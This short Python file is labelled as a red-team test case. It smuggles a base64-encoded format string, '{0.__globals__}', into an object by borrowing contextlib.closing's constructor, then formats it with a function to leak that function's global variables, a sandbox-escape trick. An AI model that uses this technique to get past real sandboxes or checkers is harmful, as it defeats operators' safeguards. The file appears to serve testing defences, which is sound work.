# family: red team, round 58a (tool subclass of contextlib.closing; Mine.__init__(self, v) in another class's method stores self.thing)
import base64
import contextlib


class Mine(contextlib.closing):
    pass


class Reader:
    thing = "{0.real}"

    def load(self, text):
        Mine.__init__(self, text)

    def show(self, x):
        return self.thing.format(x)


def probe():
    return 1


r = Reader()
r.load(base64.b64decode("ezAuX19nbG9iYWxzX199").decode())
print(r.show(probe))
